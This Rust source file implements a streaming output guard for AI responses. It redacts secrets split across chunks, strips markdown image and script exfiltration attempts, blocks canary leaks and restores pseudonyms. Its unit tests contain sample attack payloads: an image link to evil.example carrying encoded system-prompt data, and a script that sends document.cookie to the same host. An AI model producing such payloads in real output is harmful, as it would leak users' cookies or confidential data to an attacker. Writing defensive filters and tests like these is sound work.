//! [`StreamGuard`]: output checks on a streamed response, chunk by chunk.
//!
//! The guard holds back at most `stream.lookbehind_bytes` (plus the rest of a word or
//! an unclosed markdown/HTML construct that began inside that window) so that a secret,
//! a canary or a link split across chunks is seen whole before any of it is released.
//! Everything before the hold-back is checked, redacted, has its pseudonyms restored,
//! and is released, in batches of at least 64 bytes (each scan reads the hold-back). A blocking finding stops the stream: nothing more is released.

use std::sync::Arc;

use crate::guard::{apply_edits, Context, Guard};
use crate::verdict::{Action, Detection, Span};

/// Bytes beyond the look-behind that must be pending before a push scans and releases.
const MIN_RELEASE: usize = 64;

/// What one [`StreamGuard::push`] or [`StreamGuard::finish`] released.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct StreamOutput {
    /// Text safe to send on (possibly rewritten).
    pub text: String,
    /// Detections in the released part (spans in stream coordinates), or the one that
    /// blocked the stream.
    pub detections: Vec<Detection>,
    /// The stream is blocked: send nothing more.
    pub blocked: bool,
}

/// Chunk-by-chunk output guard; see the module documentation.
#[derive(Debug)]
pub struct StreamGuard {
    guard: Arc<Guard>,
    ctx: Context,
    pending: String,
    /// Stream offset of `pending[0]`.
    offset: usize,
    /// The whole response so far, kept only when a schema must be checked at the end
    /// (bounded by `max_input_bytes`).
    whole: Option<String>,
    blocked: bool,
}

impl StreamGuard {
    pub(crate) fn new(guard: Arc<Guard>, ctx: Context) -> StreamGuard {
        StreamGuard {
            guard,
            whole: ctx.schema.as_ref().map(|_| String::new()),
            ctx,
            pending: String::new(),
            offset: 0,
            blocked: false,
        }
    }

    /// Feeds one chunk; returns what can be released now.
    pub fn push(&mut self, chunk: &str) -> StreamOutput {
        if self.blocked {
            return StreamOutput {
                blocked: true,
                ..StreamOutput::default()
            };
        }
        if let Some(w) = self.whole.as_mut() {
            if w.len() + chunk.len() <= self.guard.cfg.max_input_bytes {
                w.push_str(chunk);
            }
        }
        self.pending.push_str(chunk);
        // Scan in batches: SSE chunks are a few tokens each, and every scan reads the
        // whole hold-back, so wait until at least `MIN_RELEASE` bytes could go out.
        let lookbehind = self.guard.cfg.stream.lookbehind_bytes;
        if self.pending.len() < lookbehind + MIN_RELEASE {
            return StreamOutput::default();
        }
        let cut = safe_cut(&self.pending, lookbehind);
        self.release(cut)
    }

    /// Ends the stream: checks and releases everything held back, and validates the
    /// whole response against the schema, if any.
    pub fn finish(&mut self) -> StreamOutput {
        if self.blocked {
            return StreamOutput {
                blocked: true,
                ..StreamOutput::default()
            };
        }
        let mut out = self.release(self.pending.len());
        if let (Some(schema), Some(whole)) = (self.ctx.schema.clone(), self.whole.take()) {
            let dets = self.guard.schema_detections(&whole, &schema);
            if dets.iter().any(|d| d.action == Action::Block) {
                out.blocked = true;
                self.blocked = true;
            }
            out.detections.extend(dets);
        }
        out
    }

    fn release(&mut self, mut cut: usize) -> StreamOutput {
        let (dets, edits) = self.guard.output_findings(&self.pending, &self.ctx);
        // A block anywhere in what we hold (released or not) stops the stream.
        if let Some(d) = dets.iter().find(|d| d.action == Action::Block) {
            self.blocked = true;
            self.pending.clear();
            return StreamOutput {
                text: String::new(),
                detections: vec![shift(d.clone(), self.offset)],
                blocked: true,
            };
        }
        // Never cut through a finding: release up to its start and keep it whole.
        loop {
            let crossing = dets
                .iter()
                .filter_map(|d| d.span)
                .chain(edits.iter().map(|e| Span {
                    start: e.start,
                    end: e.end,
                }))
                .filter(|s| s.start < cut && s.end > cut)
                .map(|s| s.start)
                .min();
            match crossing {
                Some(s) => cut = s,
                None => break,
            }
        }
        let mut mine: Vec<_> = edits.into_iter().filter(|e| e.end <= cut).collect();
        let released_dets: Vec<Detection> = dets
            .into_iter()
            .filter(|d| d.span.is_none_or(|s| s.end <= cut))
            .filter(|d| d.span.is_some() || cut == self.pending.len())
            .map(|d| shift(d, self.offset))
            .collect();
        let head = self.pending.get(..cut).unwrap_or_default();
        let mut text = apply_edits(head, &mut mine);
        if let Some(v) = self.ctx.vault.as_deref() {
            text = v.restore(&text);
        }
        self.pending = self.pending.get(cut..).unwrap_or_default().to_owned();
        self.offset += cut;
        StreamOutput {
            text,
            detections: released_dets,
            blocked: false,
        }
    }
}

fn shift(mut d: Detection, by: usize) -> Detection {
    if let Some(s) = d.span.as_mut() {
        s.start += by;
        s.end += by;
    }
    d
}

/// Where to cut `pending` so that at most `lookbehind` bytes (plus the word or the
/// unclosed construct they start in) stay held.
fn safe_cut(pending: &str, lookbehind: usize) -> usize {
    let mut cut = pending.len().saturating_sub(lookbehind);
    while !pending.is_char_boundary(cut) {
        cut -= 1;
    }
    if cut == 0 {
        return 0;
    }
    let floor = |mut w: usize| {
        while !pending.is_char_boundary(w) {
            w -= 1;
        }
        w
    };
    let window_start = floor(cut.saturating_sub(lookbehind));
    let bytes = pending.as_bytes();
    // Back to the start of the whitespace-delimited word the cut falls in.
    let word = |i: usize| bytes.get(i).is_some_and(|b| !b.is_ascii_whitespace());
    if word(cut - 1) && word(cut) {
        let space = pending[window_start..cut]
            .char_indices()
            .rev()
            .find(|(_, c)| c.is_whitespace());
        if let Some((i, c)) = space {
            cut = window_start + i + c.len_utf8();
        } else {
            cut = window_start;
        }
    }
    let window_start = floor(cut.saturating_sub(lookbehind));
    // Back before an unclosed `[`, `![` or `<` that began in the window.
    let window = &pending[window_start..cut];
    for (open, close) in [('[', ')'), ('<', '>')] {
        if let Some(i) = window.rfind(open) {
            let tail = &window[i..];
            let closed = tail.contains(close) && (open != '[' || tail.contains("]("));
            if !closed || open == '[' && !tail.contains(')') {
                let mut c = window_start + i;
                if c > 0 && bytes.get(c - 1) == Some(&b'!') {
                    c -= 1;
                }
                cut = cut.min(c);
            }
        }
    }
    cut
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{GuardConfig, RedactionMode};
    use crate::redact::Vault;
    use crate::Model;

    fn guard(cfg: GuardConfig) -> Arc<Guard> {
        Arc::new(Guard::with_model(&cfg, Model::embedded().unwrap()).unwrap())
    }

    /// Streams `chunks`, returns everything released and the detection codes.
    fn run(g: &Arc<Guard>, ctx: Context, chunks: &[&str]) -> (String, Vec<String>, bool) {
        let mut s = g.stream(ctx);
        let mut text = String::new();
        let mut codes = Vec::new();
        let mut blocked = false;
        for c in chunks {
            let o = s.push(c);
            assert!(
                o.text.len() <= text.len() + c.len() + 64 + 200,
                "released more than it got"
            );
            text.push_str(&o.text);
            codes.extend(o.detections.into_iter().map(|d| d.code));
            blocked |= o.blocked;
        }
        let o = s.finish();
        text.push_str(&o.text);
        codes.extend(o.detections.into_iter().map(|d| d.code));
        (text, codes, blocked || o.blocked)
    }

    fn small() -> GuardConfig {
        let mut c = GuardConfig::default();
        c.stream.lookbehind_bytes = 64;
        c
    }

    #[test]
    fn secret_split_across_chunks_is_redacted() {
        let g = guard(small());
        let filler = "word ".repeat(30);
        let (text, codes, blocked) = run(
            &g,
            Context::default(),
            &[&filler, "your key is AKIAIOSF", "ODNN7EXAMPLE and ", &filler],
        );
        assert!(!blocked);
        assert_eq!(codes, vec!["GRD011"]);
        assert!(text.contains("your key is <AWS_ACCESS_KEY> and"), "{text}");
        assert!(!text.contains("AKIA"));
        assert_eq!(text.len(), 2 * filler.len() + "your key is <AWS_ACCESS_KEY> and ".len());
    }

    #[test]
    fn markdown_image_split_across_chunks_is_removed() {
        let g = guard(small());
        let (text, codes, _) = run(
            &g,
            Context::default(),
            &[
                "Here is the chart ![a",
                "lt text](https://evil.exa",
                "mple/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ) done.",
            ],
        );
        assert_eq!(codes, vec!["GRD020"]);
        assert_eq!(text, "Here is the chart [image removed] done.");
    }

    #[test]
    fn script_tag_split_across_chunks_is_sanitised() {
        let g = guard(small());
        let (text, codes, _) = run(
            &g,
            Context::default(),
            &[
                "Result: <scr",
                "ipt>fetch('//evil.example/'+document.cookie)</scr",
                "ipt> ok",
            ],
        );
        assert_eq!(codes, vec!["GRD021"]);
        assert_eq!(text, "Result:  ok");
    }

    #[test]
    fn canary_split_across_chunks_blocks_the_stream() {
        let mut cfg = small();
        cfg.output.canary_tokens = vec!["pal-canary-0011223344".to_owned()];
        let g = guard(cfg);
        let (text, codes, blocked) = run(
            &g,
            Context::default(),
            &["The prompt says pal-can", "ary-0011223344 and more"],
        );
        assert!(blocked);
        assert_eq!(codes, vec!["GRD022"]);
        assert!(!text.contains("0011223344"), "{text}");
    }

    #[test]
    fn pseudonyms_are_restored_across_chunks() {
        let mut cfg = small();
        cfg.redaction.mode = RedactionMode::Pseudonymise;
        let g = guard(cfg);
        let mut vault = Vault::new();
        let v = g.check_input_with("Write to ana@example.org about it", &mut vault);
        let crate::Decision::Redact { text } = &v.decision else {
            panic!("expected redact, got {v:?}")
        };
        assert_eq!(text, "Write to <EMAIL_1> about it");
        let ctx = Context::with_vault(vault);
        let (out, codes, _) = run(&g, ctx, &["Sure, I wrote to <EMA", "IL_1> today."]);
        assert_eq!(out, "Sure, I wrote to ana@example.org today.");
        assert!(codes.is_empty(), "{codes:?}");
    }

    #[test]
    fn safe_text_flows_with_bounded_holdback() {
        let g = guard(small());
        let mut s = g.stream(Context::default());
        let mut released = 0;
        for _ in 0..50 {
            released += s.push("plain words flowing by ").text.len();
        }
        // Everything but the look-behind, one batch and at most one word has been released.
        assert!(
            50 * 23 - released <= 64 + MIN_RELEASE + 23,
            "held {}",
            50 * 23 - released
        );
        released += s.finish().text.len();
        assert_eq!(released, 50 * 23);
    }

    #[test]
    fn safe_cut_table() {
        assert_eq!(safe_cut("short", 64), 0);
        let s = format!("{}{}", "a ".repeat(40), "tail-of-a-word");
        let c = safe_cut(&s, 10);
        assert_eq!(&s[c..], "tail-of-a-word");
        let s = format!("{}see [link](http://x.example/abc", "b ".repeat(40));
        let c = safe_cut(&s, 12);
        assert!(s[c..].starts_with("[link]"), "{}", &s[c..]);
        let s = format!("{}héllo wörld ünïcode", "c ".repeat(40));
        for lb in 0..20 {
            let c = safe_cut(&s, lb);
            assert!(s.is_char_boundary(c));
        }
        // A multi-byte space (U+3000) before the held word: the cut lands after it.
        let s = format!("{}xx\u{3000}tailtail", "d ".repeat(40));
        let c = safe_cut(&s, 6);
        assert_eq!(&s[c..], "tailtail");
    }
}
